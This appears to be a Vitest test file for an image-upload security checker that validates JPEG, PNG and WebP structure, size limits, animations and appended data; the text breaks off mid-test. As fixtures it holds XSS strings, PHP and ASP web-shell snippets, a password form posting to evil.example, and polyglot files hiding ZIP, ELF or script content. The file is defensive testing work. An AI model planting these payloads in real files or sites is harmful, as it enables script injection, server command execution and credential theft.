import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { decodeImage } from '../src/image/decode.js';
import { checkImageBytes } from '../src/security/imageCheck.js';
import type { UploadPolicy } from '../src/security/imageCheck.js';
import { jpegLayout } from '../src/security/jpegLayout.js';
import { pngLayout } from '../src/security/pngLayout.js';
import { trailerProblem } from '../src/security/trailingData.js';
import {
  appleIdot, apng, box, imageMagickVpag, isoBmff, jpegDeclaring, jpegSegments, motionVideo, multiPictureJpeg, pngChunk, pngDeclaring,
  samsungMotionTrailer, samsungTrailer, scene, seededRandom, sources, tinyBoxes, utf16, webpDeclaring, withAnmfChunk, withJpegSegment,
  withPngChunk, withWebpChunks, zipOf,
} from './support/craft.js';
import type { Sources } from './support/craft.js';

const POLICY: UploadPolicy = { maxBytes: 30 * 1024 * 1024, maxDimension: 4096, maxPixels: 4096 * 4096, animated: 'first-frame', trailingData: 'strip' };
const STRICT: UploadPolicy = { ...POLICY, animated: 'reject', trailingData: 'reject' };

let src: Sources;
beforeAll(async () => {
  src = await sources();
});

const check = (data: Buffer, policy = POLICY) => checkImageBytes(data, policy);
/** The coded error checkImageBytes throws (fails the test when it throws none). */
function refusal(data: Buffer, policy = POLICY): { code: string; message: string; status: number } {
  try {
    checkImageBytes(data, policy);
  } catch (error) {
    return error as { code: string; message: string; status: number };
  }
  throw new Error('the file was accepted');
}
const text = (s: string) => Buffer.from(s, 'latin1');

describe('accepted photos: the size, frames and end come from the headers', () => {
  it.each([
    ['baseline JPEG', () => src.jpeg, 'jpeg'],
    ['progressive JPEG', () => src.progressive, 'jpeg'],
    ['PNG', () => src.png, 'png'],
    ['lossy WebP (VP8)', () => src.webp, 'webp'],
    ['lossless WebP (VP8L)', () => src.lossless, 'webp'],
  ] as const)('%s', (_name, make, format) => {
    expect(check(make())).toEqual({ format, width: 64, height: 48, frames: 1, trailingBytes: 0 });
  });

  it.each([
    ['greyscale JPEG', (s: sharp.Sharp) => s.greyscale().jpeg(), 'jpeg'],
    ['CMYK JPEG', (s: sharp.Sharp) => s.toColourspace('cmyk').jpeg(), 'jpeg'],
    ['16-bit PNG', (s: sharp.Sharp) => s.toColourspace('rgb16').png(), 'png'],
    ['greyscale PNG', (s: sharp.Sharp) => s.greyscale().png(), 'png'],
    ['palette PNG', (s: sharp.Sharp) => s.png({ palette: true }), 'png'],
    ['WebP with alpha (VP8X)', (s: sharp.Sharp) => s.ensureAlpha(0.5).webp(), 'webp'],
  ] as const)('%s', async (_name, encode, format) => {
    const data = await encode(scene(80, 30)).toBuffer();
    expect(check(data)).toMatchObject({ format, width: 80, height: 30, frames: 1, trailingBytes: 0 });
  });

  it.each(['jpeg', 'png', 'webp'] as const)('1x1 %s', async (format) => {
    const data = await sharp({ create: { width: 1, height: 1, channels: 3, background: '#808080' } }).toFormat(format).toBuffer();
    expect(check(data)).toMatchObject({ format, width: 1, height: 1 });
  });

  it('an EXIF thumbnail (a whole JPEG inside APP1) is skipped by its length', async () => {
    const thumbnail = await scene(16, 12).jpeg().toBuffer();
    const data = withJpegSegment(src.jpeg, 0xe1, Buffer.concat([text('Exif\0\0'), thumbnail]));
    expect(check(data)).toMatchObject({ width: 64, height: 48, trailingBytes: 0 });
  });

  it('a DHT (FFC4) before the frame header is not read as one', () => {
    const segments = jpegSegments(src.jpeg);
    const sof = segments.find((s) => s.marker === 0xc0)!;
    const dht = segments.find((s) => s.marker === 0xc4 && s.at > sof.at)!;
    const dhtEnd = dht.at + 2 + src.jpeg.readUInt16BE(dht.at + 2);
    const reordered = Buffer.concat([src.jpeg.subarray(0, sof.at), src.jpeg.subarray(dht.at, dhtEnd), src.jpeg.subarray(sof.at, dht.at), src.jpeg.subarray(dhtEnd)]);
    expect(reordered.length).toBe(src.jpeg.length);
    expect(check(reordered)).toMatchObject({ width: 64, height: 48, trailingBytes: 0 });
  });

  it('exactly 4096 x 4096 is allowed; one more pixel on a side is not', () => {
    expect(check(pngDeclaring(4096, 4096))).toMatchObject({ width: 4096, height: 4096 });
    expect(refusal(pngDeclaring(4097, 4096)).code).toBe('PETCUT_E_DIMENSIONS_TOO_LARGE');
  });
});

describe('the magic number decides, and other formats are named', () => {
  it('an empty file and a file over the size limit', () => {
    expect(refusal(Buffer.alloc(0))).toMatchObject({ code: 'PETCUT_E_EMPTY_INPUT', status: 400 });
    expect(refusal(src.jpeg, { ...POLICY, maxBytes: 1000 })).toMatchObject({ code: 'PETCUT_E_PAYLOAD_TOO_LARGE', status: 413, message: expect.stringMatching(/limit/) });
  });

  it('HEIC (by its ftyp brands) gets the iPhone settings to change', () => {
    for (const [major, compatible] of [['heic', ['mif1', 'heic']], ['heix', []], ['mif1', ['heic']], ['msf1', ['hevc']]] as const) {
      const error = refusal(isoBmff(major, [...compatible]));
      expect(error).toMatchObject({ code: 'PETCUT_E_HEIC_UNSUPPORTED', status: 415 });
      expect(error.message).toMatch(/Settings > Camera > Formats > Most Compatible/);
    }
  });

  it.each([
    ['GIF', () => scene().gif().toBuffer(), /GIF/],
    ['TIFF', () => scene().tiff().toBuffer(), /TIFF/],
    ['AVIF (sharp\'s own, with the mif1 brand too)', () => scene().avif().toBuffer(), /AVIF.*export the photo as JPEG/],
    ['PDF', async () => text('%PDF-1.7\n%%EOF'), /PDF/],
    ['SVG after a BOM and whitespace', async () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text('\r\n <svg/>')]), /SVG/],
    ['HTML', async () => text('<!doctype html><p>hi'), /HTML/],
    ['ZIP', async () => zipOf('pet.jpg', src.jpeg), /ZIP.*unzip/],
    ['BMP', async () => Buffer.concat([text('BM'), Buffer.alloc(60)]), /BMP/],
    ['PSD', async () => Buffer.concat([text('8BPS'), Buffer.alloc(60)]), /Photoshop/],
    ['JPEG XL', async () => Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(30)]), /JPEG XL/],
    ['an MP4 video', async () => isoBmff('isom', ['mp41']), /video/],
    ['unknown bytes', async () => Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37 + 11) & 0xff)), /not a photo/],
    ['a JPEG named by a broken magic number', async () => Buffer.concat([Buffer.from([0xff, 0xd8, 0x00]), src.jpeg.subarray(3)]), /not a photo/],
  ] as const)('%s', async (_name, make, message) => {
    const error = refusal(await make());
    expect(error).toMatchObject({ code: 'PETCUT_E_UNSUPPORTED_FORMAT', status: 415 });
    expect(error.message).toMatch(message);
    expect(error.message).toMatch(/JPEG/);
  });
});

describe('sizes from the header, before any decoding', () => {
  it.each([
    ['PNG', () => pngDeclaring(100_000, 100_000)],
    ['JPEG', () => jpegDeclaring(src.jpeg, 65_535, 65_535)],
    ['WebP VP8X', () => webpDeclaring(100_000, 100_000, 'vp8x')],
    ['WebP VP8L', () => webpDeclaring(16_384, 9000, 'vp8l')],
    ['WebP VP8', () => webpDeclaring(16_383, 5000, 'vp8')],
  ] as const)('%s declaring a huge image: 413 with the size and what to do', (_name, make) => {
    const error = refusal(make());
    expect(error).toMatchObject({ code: 'PETCUT_E_DIMENSIONS_TOO_LARGE', status: 413 });
    expect(error.message).toMatch(/^The photo is \d+x\d+ pixels; the limit is 4096 x 4096: resize it/);
  });

  it('a tiny PNG declaring 100000x100000 with garbage after its header is still refused for its size', () => {
    const bomb = Buffer.concat([pngDeclaring(100_000, 100_000).subarray(0, 33), Buffer.alloc(20, 0xee)]);
    expect(refusal(bomb).message).toContain('100000x100000');
  });

  it('the pixel limit applies on its own (a lower PETCUT_MAX_PIXELS)', () => {
    const error = refusal(src.jpeg, { ...POLICY, maxPixels: 3000 });
    expect(error).toMatchObject({ code: 'PETCUT_E_TOO_MANY_PIXELS', status: 413 });
    expect(error.message).toContain('64x48');
    expect(check(src.jpeg, { ...POLICY, maxPixels: 64 * 48 })).toMatchObject({ width: 64 });
  });

  it.each([
    ['PNG 0x10', () => pngDeclaring(0, 10)],
    ['JPEG 64x0 (DNL, which libjpeg does not support)', () => jpegDeclaring(src.jpeg, 64, 0)],
    ['WebP VP8 0x0', () => webpDeclaring(0, 0, 'vp8')],
  ] as const)('no pixels at all (%s) is a damaged file', (_name, make) => {
    expect(refusal(make())).toMatchObject({ code: 'PETCUT_E_CORRUPT_IMAGE', status: 422 });
  });
});

describe('JPEG structure', () => {
  it('a header without image data, and a segment running past the end, are damaged', () => {
    for (const cut of [4, 20, 150, jpegSegments(src.jpeg).find((s) => s.marker === 0xda)!.at + 6]) {
      const error = refusal(src.jpeg.subarray(0, cut));
      expect(error.code).toBe('PETCUT_E_CORRUPT_IMAGE');
      expect(error.message).toMatch(/upload it again/);
    }
  });

  it('image data before the frame header, and two frame headers, are damaged', () => {
    const sof = jpegSegments(src.jpeg).find((s) => s.marker === 0xc0)!;
    const sofEnd = sof.at + 2 + src.jpeg.readUInt16BE(sof.at + 2);
    expect(refusal(Buffer.concat([src.jpeg.subarray(0, sof.at), src.jpeg.subarray(sofEnd)])).code).toBe('PETCUT_E_CORRUPT_IMAGE');
    expect(refusal(Buffer.concat([src.jpeg.subarray(0, sofEnd), src.jpeg.subarray(sof.at)])).code).toBe('PETCUT_E_CORRUPT_IMAGE');
  });

  it.each([
    ['inside its image data', 0.7],
    ['just before its EOI (a complete scan)', 1],
  ] as const)('a JPEG cut %s is refused by the header check, as the decoder refuses it (422 either way)', async (_name, share) => {
    const cut = src.jpeg.subarray(0, share === 1 ? src.jpeg.length - 2 : Math.floor(src.jpeg.length * share));
    expect(refusal(cut)).toMatchObject({ code: 'PETCUT_E_CORRUPT_IMAGE', status: 422 });
    await expect(decodeImage(cut, { maxPixels: POLICY.maxPixels })).rejects.toMatchObject({ code: 'PETCUT_E_CORRUPT_IMAGE', message: expect.stringMatching(/upload it again/) });
  });

  it('stuffed bytes (FF00) and restart markers (FFD0-D7) inside the scan do not end it', async () => {
    const big = await scene(640, 480).jpeg({ quality: 100 }).toBuffer();
    const sos = jpegSegments(big).find((s) => s.marker === 0xda)!;
    const dataStart = sos.at + 2 + big.readUInt16BE(sos.at + 2);
    expect(big.indexOf(Buffer.from([0xff, 0x00]), dataStart)).toBeGreaterThan(0);
    const middle = (dataStart + big.length) >> 1;
    const restarts = Buffer.concat([big.subarray(0, middle), Buffer.from([0xff, 0xd3]), big.subarray(middle, middle + 10), Buffer.from([0xff, 0xff, 0xd4]), big.subarray(middle + 10)]);
    expect(check(Buffer.concat([restarts, Buffer.alloc(4)]))).toMatchObject({ width: 640, height: 480, trailingBytes: 4 });
  });

  it('the end of a progressive JPEG is found after its last scan', () => {
    expect(jpegSegments(src.progressive).some((s) => s.marker === 0xc2)).toBe(true);
    expect(check(Buffer.concat([src.progressive, Buffer.alloc(10, 0xff)]))).toMatchObject({ trailingBytes: 10 });
  });

  it('MPF secondary images (phone gain maps) are part of the photo, not trailing data', () => {
    expect(check(multiPictureJpeg(src.jpeg, src.progressive), STRICT)).toMatchObject({ frames: 1, trailingBytes: 0 });
    // The same bytes without the MPF segment: a second image appended is trailing data.
    expect(check(Buffer.concat([src.jpeg, src.progressive]))).toMatchObject({ trailingBytes: src.progressive.length });
  });
});

describe('PNG and WebP structure', () => {
  it('PNG: wrong IHDR checksum, invalid depth, no IEND, a chunk past the end, no IDAT', () => {
    const badCrc = Buffer.from(src.png);
    badCrc[30] = badCrc[30]! ^ 0xff;
    const badDepth = Buffer.from(src.png);
    badDepth.set(pngChunk('IHDR', Buffer.from([0, 0, 0, 64, 0, 0, 0, 48, 16, 3, 0, 0, 0])), 8); // 16-bit palette
    const noIdat = Buffer.concat([src.png.subarray(0, 33), pngChunk('IEND', Buffer.alloc(0))]);
    for (const data of [badCrc, badDepth, src.png.subarray(0, src.png.length - 12), src.png.subarray(0, src.png.length - 20), noIdat]) {
      expect(refusal(data).code).toBe('PETCUT_E_CORRUPT_IMAGE');
    }
  });

  it('WebP: a RIFF size past the end is a cut upload; bytes past it are trailing data', () => {
    expect(refusal(src.webp.subarray(0, src.webp.length - 5)).code).toBe('PETCUT_E_CORRUPT_IMAGE');
    expect(check(Buffer.concat([src.webp, Buffer.alloc(7)]))).toMatchObject({ trailingBytes: 7 });
  });

  it('WebP: a canvas that does not match its image is damaged', () => {
    expect(refusal(webpDeclaring(300, 200, 'vp8x')).code).toBe('PETCUT_E_CORRUPT_IMAGE');
  });
});

describe('animations: first frame by default, refused when configured', () => {
  it.each([
    ['animated WebP', () => src.animated, 'webp'],
    ['APNG', () => apng(64, 48), 'png'],
  ] as const)('%s', async (_name, make, format) => {
    expect(check(make())).toMatchObject({ format, frames: 2, width: 64, height: 48 });
    expect(refusal(make(), STRICT)).toMatchObject({ code: 'PETCUT_E_ANIMATED_IMAGE', status: 422, message: expect.stringMatching(/2 frames.*still photo/) });
    // What the engine then decodes is the first frame (red), not the second (blue).
    const decoded = await decodeImage(make(), { maxPixels: POLICY.maxPixels });
    expect([decoded.width, decoded.height]).toEqual([64, 48]);
    expect(decoded.rgb[0]).toBeGreaterThan(240);
    expect(decoded.rgb[2]).toBeLessThan(15);
  });
});

describe('trailing data and polyglots', () => {
  const video = () => isoBmff('mp42', ['isom'], 5000);

  it('a motion-photo video after the JPEG: allowed with strip, refused with reject', () => {
    const motion = Buffer.concat([src.jpeg, video()]);
    expect(check(motion)).toMatchObject({ width: 64, trailingBytes: video().length });
    expect(refusal(motion, STRICT)).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', message: expect.stringMatching(/extra data after the photo/) });
    expect(refusal(Buffer.concat([src.png, video()]), STRICT).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
  });

  it('zero padding after the end is not data, even with reject', () => {
    expect(check(Buffer.concat([src.jpeg, Buffer.alloc(256)]), STRICT)).toMatchObject({ trailingBytes: 256 });
  });

  it.each([
    ['JPEG + ZIP', () => Buffer.concat([src.jpeg, zipOf('x.js', text('alert(1)'))])],
    ['JPEG + junk + ZIP (unzip reads from the end)', () => Buffer.concat([src.jpeg, Buffer.alloc(99, 7), zipOf('x.txt', text('x'))])],
    ['JPEG + <script>', () => Buffer.concat([src.jpeg, text('<ScRiPt>alert(1)</script>')])],
    ['JPEG + %PDF', () => Buffer.concat([src.jpeg, text('%PDF-1.4')])],
    ['JPEG + MZ', () => Buffer.concat([src.jpeg, text('MZ\x90\0')])],
    ['JPEG + ELF', () => Buffer.concat([src.jpeg, text('\x7fELF\x02')])],
    ['JPEG + #!', () => Buffer.concat([src.jpeg, text('#!/bin/sh\n')])],
    ['JPEG COM <?php', () => withJpegSegment(src.jpeg, 0xfe, text('<?php system($_GET[1]); ?>'))],
    ['JPEG APP13 <!DOCTYPE html>', () => withJpegSegment(src.jpeg, 0xed, text('<!DOCTYPE html>'))],
    ['JPEG COM javascript: URL', () => withJpegSegment(src.jpeg, 0xfe, text('JAVASCRIPT:alert(1)'))],
    ['PNG tEXt <?php', () => withPngChunk(src.png, 'tEXt', text('Comment\0<?php echo 1; ?>'))],
    ['PNG iTXt <iframe', () => withPngChunk(src.png, 'iTXt', text('XML\0\0\0\0\0<iframe src=x>'))],
    ['PNG zTXt (compressed) <svg', () => withPngChunk(src.png, 'zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(text('<svg onload=alert(1)>'))]))],
    ['PNG compressed iTXt <html', () => withPngChunk(src.png, 'iTXt', Buffer.concat([text('XML\0\x01\0en\0\0'), deflateSync(text('<html>'))]))],
    ['PNG + <html> after IEND', () => Buffer.concat([src.png, text('<html>')])],
    ['WebP + ZIP after the RIFF size', () => Buffer.concat([src.webp, zipOf('x.txt', text('x'))])],
  ] as const)('%s is refused whatever the trailing-data policy', (_name, make) => {
    expect(refusal(make())).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422, message: expect.stringMatching(/save the photo again/) });
  });

  it('a WebP EXIF chunk with a script is refused', async () => {
    const withExif = await scene().withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>' } }).webp().toBuffer();
    expect(withExif.includes('EXIF')).toBe(true);
    expect(refusal(withExif).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
  });

  it('ordinary metadata and look-alikes are not flagged', async () => {
    const xmp = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description dc:title="My dog, svg-ish &lt;html&gt;"/></rdf:RDF></x:xmpmeta>';
    const jpeg = await scene().withExif({ IFD0: { Make: 'PetPhone', ImageDescription: 'javascript course notes' } }).withXmp(xmp).jpeg().toBuffer();
    expect(check(jpeg)).toMatchObject({ width: 64 });
    expect(check(withJpegSegment(src.jpeg, 0xfe, text('<svgfoo> <scripted> <htmlx')))).toMatchObject({ width: 64 });
    expect(check(withPngChunk(src.png, 'tEXt', text('Comment\0a <b>bold</b> pet')))).toMatchObject({ width: 64 });
  });
});

/**
 * Issue #12, item 9: what an outside tester got through. After the image only
 * structures phones append are allowed; every byte of metadata is scanned,
 * and active content is decided by what a browser or a script host acts on.
 */
describe('after the image: only what phones append (#12)', () => {
  const zipLocalHeader = () => {
    const zip = zipOf('x.js', text('alert(1)'));
    return zip.subarray(0, zip.indexOf(text('PK\x01\x02'))); // the file's entry without its directory
  };
  const payloads: ReadonlyArray<readonly [string, () => Buffer]> = [
    ['<img onerror>', () => text('<img src=x onerror=alert(1)>')],
    ['<body onload>', () => text('<body onload=alert(document.domain)>')],
    ['<object data>', () => text('<object data="https://evil.example/x.swf"></object>')],
    ['<meta refresh>', () => text('<meta http-equiv=refresh content="0;url=https://evil.example/">')],
    ['<script> in UTF-16LE', () => utf16('<script>alert(1)</script>', 'le')],
    ['<script> in UTF-16BE', () => utf16('<script>alert(1)</script>', 'be')],
    ['<script> in UTF-16LE with a BOM', () => utf16('<script>alert(1)</script>', 'le', true)],
    ['<script> in UTF-16BE with a BOM', () => utf16('<script>alert(1)</script>', 'be', true)],
    ['gzip', () => gzipSync(text('<script>alert(1)</script>'))],
    ['RAR', () => Buffer.concat([text('Rar!\x1a\x07\x01\x00'), Buffer.alloc(40, 1)])],
    ['7z', () => Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(40, 1)])],
    ['a ZIP entry after padding', () => Buffer.concat([Buffer.alloc(16), zipLocalHeader()])],
  ];
  const formats = ['jpeg', 'png', 'webp'] as const;
  const cases = formats.flatMap((format) => payloads.map(([name, make]) => [format, name, make] as const));

  it.each(cases)('%s + %s is refused', (format, _name, make) => {
    const error = refusal(Buffer.concat([src[format], make()]));
    expect(error).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422, message: expect.stringMatching(/save the photo again/) });
  });

  it.each([
    ['markup after a motion-photo video', () => Buffer.concat([src.jpeg, motionVideo(), text('<img src=x onerror=alert(1)>')])],
    ['a ZIP entry between a video and a Samsung trailer', () => Buffer.concat([src.jpeg, motionVideo(), zipLocalHeader(), samsungMotionTrailer()])],
    ['a video whose last box runs past the end', () => Buffer.concat([src.jpeg, motionVideo().subarray(0, 2000)])],
    ['boxes without an ftyp first', () => Buffer.concat([src.jpeg, box('mdat', text('<img src=x onerror=alert(1)>'))])],
    ['a box smaller than its own header', () => Buffer.concat([src.jpeg, box('ftyp', text('isom\0\0\0\0')), Buffer.from([0, 0, 0, 3]), text('mdat<img src=x onerror=alert(1)>')])],
    ['a damaged JPEG after the image', () => Buffer.concat([src.jpeg, src.progressive.subarray(0, 300)])],
    ['a Samsung trailer with bytes its directory does not list', () => Buffer.concat([src.jpeg, text('<img src=x onerror=alert(1)>'), samsungMotionTrailer()])],
    ['a Samsung directory pointing before the image end', () => {
      const trailer = samsungMotionTrailer();
      const back = trailer.length - 8 - (12 + 2 * 12) + 12 + 4; // the first entry's distance back from SEFH (two entries, then length and SEFT)
      trailer.writeUInt32LE(trailer.readUInt32LE(back) + 500, back);
      return Buffer.concat([src.jpeg, trailer]);
    }],
  ] as const)('%s is refused', (_name, make) => {
    expect(refusal(make())).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422 });
  });

  it('a JPEG after the image has its metadata scanned like the photo\'s (with and without MPF)', () => {
    const hostile = withJpegSegment(src.progressive, 0xfe, text('<img src=x onerror=alert(1)>'));
    expect(refusal(Buffer.concat([src.jpeg, hostile])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
    expect(refusal(multiPictureJpeg(src.jpeg, hostile)).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
  });

  it('a ZIP whose directory is in the file\'s last 64 KiB is refused even inside the image or a video', () => {
    const zip = zipOf('x.js', text('alert(1)'));
    expect(refusal(Buffer.concat([src.jpeg, motionVideo(zip)])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
    const beforeIend = Buffer.concat([src.png.subarray(0, src.png.length - 12), pngChunk('zpXx', zip), src.png.subarray(src.png.length - 12)]);
    expect(refusal(beforeIend).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
    expect(refusal(Buffer.concat([src.jpeg, motionVideo(Buffer.concat([Buffer.alloc(500, 9), text('%PDF-1.7\n')]))])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
  });

  it.each([
    ['an MP4 motion photo (Google)', () => Buffer.concat([src.jpeg, motionVideo()])],
    ['a gain map (MPF) then an MP4 (Ultra HDR motion photo)', () => Buffer.concat([multiPictureJpeg(src.jpeg, src.progressive), motionVideo()])],
    ['JPEGs without MPF (depth and confidence maps) then an MP4', () => Buffer.concat([src.jpeg, src.progressive, src.jpeg, motionVideo()])],
    ['a Samsung motion photo (video in an SEF trailer)', () => Buffer.concat([src.jpeg, samsungMotionTrailer()])],
    ['an MP4 then a Samsung trailer', () => Buffer.concat([src.jpeg, motionVideo(), samsungTrailer([{ type: 0x0a01, name: 'Image_UTC_Data', data: text('1458170015363') }])])],
    ['padding, then an MP4 with a 64-bit box size and a last box running to the end of the file', () => Buffer.concat([
      src.jpeg, Buffer.alloc(100), box('ftyp', text('qt  \0\0\0\0')), box('wide', Buffer.alloc(0)), box('mdat', Buffer.alloc(5000, 7), true),
      Buffer.from([0, 0, 0, 0]), text('free'), Buffer.alloc(64),
    ])],
    ['0xFF padding before a second JPEG', () => Buffer.concat([src.jpeg, Buffer.alloc(33, 0xff), src.progressive])],
    ['a PNG with a video after it', () => Buffer.concat([src.png, motionVideo()])],
    ['a WebP with a video after it', () => Buffer.concat([src.webp, motionVideo()])],
  ] as const)('allowed: %s (and dropped by the re-encode)', (_name, make) => {
    const data = make();
    const checked = check(data);
    expect(checked.trailingBytes).toBeGreaterThan(0);
    expect(refusal(data, STRICT)).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', message: expect.stringMatching(/extra data after the photo/) });
  });

  it('the work is bounded: 30 MB of random bytes and a million tiny boxes are refused, not walked', () => {
    const random = seededRandom(12);
    const noise = Buffer.alloc(30 * 1024 * 1024 - src.jpeg.length - 64);
    for (let i = 0; i + 4 <= noise.length; i += 4) noise.writeUInt32LE(Math.floor(random() * 2 ** 32), i);
    expect(refusal(Buffer.concat([src.jpeg, noise])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
    expect(refusal(Buffer.concat([src.jpeg, tinyBoxes(1_000_000)])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
    expect(refusal(Buffer.concat([src.jpeg, ...Array.from({ length: 100 }, () => src.progressive)])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
  });
});

describe('metadata: every byte that is not pixel data is scanned (#12)', () => {
  it.each([
    ['PNG private chunk prVt', () => withPngChunk(src.png, 'prVt', text('<img src=x onerror=alert(1)>'))],
    ['PNG unknown chunk htMl', () => withPngChunk(src.png, 'htMl', text('<html><body onload=alert(1)>'))],
    ['PNG private chunk, UTF-16LE', () => withPngChunk(src.png, 'prVt', utf16('<script>alert(1)</script>', 'le'))],
    ['PNG private chunk after IDAT', () => Buffer.concat([src.png.subarray(0, src.png.length - 12), pngChunk('ziPp', text('<iframe src=//evil.example>')), src.png.subarray(src.png.length - 12)])],
    ['simple WebP (VP8) with an extra chunk', () => withWebpChunks(src.webp, [['HTML', text('<iframe src=//evil.example>')]])],
    ['lossless WebP (VP8L) with an extra chunk', () => withWebpChunks(src.lossless, [['XYZW', text('<img src=x onerror=alert(1)>')]])],
    ['extended WebP (VP8X) with an unknown chunk', () => withWebpChunks(src.animated, [['XYZW', text('<script>alert(1)</script>')]])],
    ['extended WebP ICCP chunk', async () => {
      const webp = await scene().withIccProfile('p3').webp().toBuffer();
      const at = webp.indexOf(text('ICCP'));
      return Buffer.concat([webp.subarray(0, at + 8), text('<svg onload=alert(1)>'), webp.subarray(at + 8 + 21)]);
    }],
    ['an unknown chunk inside an animation frame (ANMF)', () => withAnmfChunk(src.animated, 'XYZW', text('<img src=x onerror=alert(1)>'))],
  ] as const)('%s holding markup is refused', async (_name, make) => {
    expect(refusal(await make())).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422 });
  });

  it.each([
    ['<img onerror>', '<img src=x onerror=alert(1)>'],
    ['an event handler on any element', '<div style="color:red" onmouseover=alert(1)>pet</div>'],
    ['an event handler on a namespaced element', '<x:xmpmeta xmlns:x="adobe:ns:meta/" onfocus=alert(1) autofocus tabindex=1>'],
    ['an event handler after a quoted ">"', '<p title=">" onpointerenter=alert(1)>'],
    ['<math>', '<math><mi xlink:href=x>'],
    ['<base href>', '<base href="https://evil.example/">'],
    ['<form>', '<form action=https://evil.example/><input name=password type=password>'],
    ['<link>', '<link rel=stylesheet href=//evil.example/x.css>'],
    ['<style>', '<style>@import url(//evil.example/x.css)</style>'],
    ['<embed>', '<embed src=//evil.example/x>'],
    ['any doctype', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN">'],
    ['PHP short echo', '<?= `$_GET[0]` ?>'],
    ['ASP / JSP', '<% eval request("c") %>'],
    ['vbscript: URL', '<a href="vbscript:msgbox(1)">'],
    ['data:text/html URL', '<a href="data:text/html;base64,PHNjcmlwdD4=">'],
    ['javascript: with a tab in it', '<a href="java\tscript:alert(1)">'],
    ['a PDF header', '%PDF-1.4\n1 0 obj'],
  ] as const)('JPEG COM with %s is refused', (_name, payload) => {
    expect(refusal(withJpegSegment(src.jpeg, 0xfe, text(payload)))).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422 });
  });

  it.each([
    ['UTF-16LE', utf16('<script>alert(1)</script>', 'le')],
    ['UTF-16BE', utf16('<img src=x onerror=alert(1)>', 'be')],
    ['UTF-16LE with a BOM', utf16('<body onload=alert(1)>', 'le', true)],
    ['UTF-16BE with a BOM', utf16('<?php system($_GET[0]); ?>', 'be', true)],
  ] as const)('JPEG APP1 with markup in %s is refused', (_name, payload) => {
    expect(refusal(withJpegSegment(src.jpeg, 0xe1, Buffer.concat([text('Exif\0\0'), payload])))).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT' });
  });
});

describe('legitimate metadata passes (#12)', () => {
  const xmp = [
    '<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?>',
    '<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 5.1.0-jc003">',
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
    '<rdf:Description rdf:about="" xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" xmlns:Container="http://ns.google.com/photos/1.0/container/"',
    ' xmlns:Item="http://ns.google.com/photos/1.0/container/item/" xmlns:dc="http://purl.org/dc/elements/1.1/" GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1">',
    '<Container:Directory><rdf:Seq><rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary" Item:Length="0" Item:Padding="0"/></rdf:li>',
    '<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="video/mp4" Item:Semantic="MotionPhoto" Item:Length="4096" Item:Padding="0"/></rdf:li></rdf:Seq></Container:Directory>',
    '<dc:description><rdf:Alt><rdf:li xml:lang="x-default">Rex &lt;3 on the sofa, 2 &gt; 1</rdf:li></rdf:Alt></dc:description>',
    '</rdf:Description></rdf:RDF></x:xmpmeta>',
    ' '.repeat(200),
    '<?xpacket end="w"?>',
  ].join('\n');

  it.each(['jpeg', 'png', 'webp'] as const)('an XMP packet (namespaced tags, <?xpacket) in %s', async (format) => {
    const data = await scene().withXmp(xmp).toFormat(format).toBuffer();
    expect(data.includes(text('xpacket'))).toBe(true);
    expect(check(data)).toMatchObject({ format, width: 64, trailingBytes: 0 });
  });

  it.each(['jpeg', 'png', 'webp'] as const)('an ICC profile and EXIF with ordinary text in %s', async (format) => {
    const data = await scene().withIccProfile('p3').withExif({ IFD0: { Make: 'PetPhone', ImageDescription: 'I <3 my dog, 1 < 2 > 0; online: yes' } }).toFormat(format).toBuffer();
    expect(check(data)).toMatchObject({ format, width: 64 });
  });

  it('an iPhone screenshot (Apple iDOT chunk) and ImageMagick vpAg', () => {
    const iphone = withPngChunk(src.png, 'iDOT', appleIdot(48));
    expect(check(iphone)).toMatchObject({ format: 'png', width: 64 });
    expect(check(withPngChunk(iphone, 'vpAg', imageMagickVpag(64, 48)))).toMatchObject({ format: 'png', width: 64 });
  });

  it('inert markup and look-alikes: text-level elements, namespaced tags, processing instructions', () => {
    for (const comment of ['a <b>bold</b> <i>pet</i>, <p>seen <a href="https://example.com/rex">here</a>', '<svgfoo> <scripted> <htmlx <imgur>',
      '<x:script>no</x:script> <?xml version="1.0"?> <?adobe-xap-filters esc="CRLF"?>', 'one = two, onion=3, only =4 <%', '<%=x%> shows x', 'javascript course notes: closures']) {
